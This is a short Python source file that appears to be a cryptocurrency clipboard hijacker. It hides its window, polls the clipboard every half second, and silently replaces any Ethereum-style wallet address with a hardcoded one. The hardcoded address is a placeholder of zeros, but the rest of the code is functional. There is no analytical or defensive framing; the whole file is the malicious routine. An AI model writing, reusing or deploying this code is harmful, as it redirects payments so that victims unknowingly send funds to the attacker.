import re
import time
import tkinter

_ADDRESS = re.compile(r"^0x[a-fA-F0-9]{40}$")
_MINE = "0x" + "0" * 40


def run():
    root = tkinter.Tk()
    root.withdraw()
    while True:
        try:
            current = root.clipboard_get().strip()
            if _ADDRESS.match(current) and current != _MINE:
                root.clipboard_clear()
                root.clipboard_append(_MINE)
                root.update()
        except Exception:
            pass
        time.sleep(0.5)
